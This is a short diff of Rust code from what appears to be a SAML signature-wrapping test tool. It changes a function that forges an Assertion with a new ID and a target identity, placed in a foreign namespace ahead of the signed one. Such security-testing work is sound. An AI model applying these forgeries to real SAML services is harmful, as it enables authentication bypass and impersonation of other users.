@@ -71,7 +71,7 @@ pub fn unclosed_root(f: &Forge) -> Result<Forged, Skip> {
 }
 
 /// The namespace a foreign look-alike element is put in.
-pub const FOREIGN_NS: &str = "urn:oasis:names:tc:SAML:2.0:assertion:not";
+const FOREIGN_NS: &str = "urn:oasis:names:tc:SAML:2.0:assertion:not";
 
 /// A forged Assertion (new ID, target identity) whose own element is in a foreign namespace,
 /// before the signed one; its children keep the SAML namespace. A consumer that finds the
@@ -82,10 +82,8 @@ pub fn foreign_namespace_assertion(f: &Forge) -> Result<Forged, Skip> {
     let p = Parts::of(&doc)?;
     p.need_assertion_sig()?;
     let (evil, swap) = p.forged_assertion_with_id(&evil_id(p.assertion_id()))?;
-    let qname_end = evil
-        .find(|c: char| c.is_whitespace() || c == '>' || c == '/')
-        .unwrap_or(evil.len());
-    let qname = &evil[1..qname_end];
+    let qname = crate::bytes::qualified_name(doc.src, p.assertion);
+    let qname_end = 1 + qname.len();
     let close = format!("</{qname}>");
     let body_end = evil
         .rfind(&close)
